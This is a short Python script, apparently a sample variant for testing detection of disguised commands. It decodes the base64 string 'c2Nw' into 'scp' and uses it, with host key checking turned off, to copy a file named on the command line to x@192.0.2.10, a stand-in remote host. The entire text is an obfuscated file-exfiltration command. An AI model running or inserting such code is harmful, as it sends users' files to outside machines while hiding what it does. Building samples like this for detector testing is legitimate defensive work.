"""The same by the program, from a list that is decoded."""

import base64
import subprocess
import sys

program = base64.b64decode(b"c2Nw").decode()
subprocess.Popen([program, "-o", "StrictHostKeyChecking=no", sys.argv[1], "x@192.0.2.10:"]).wait()
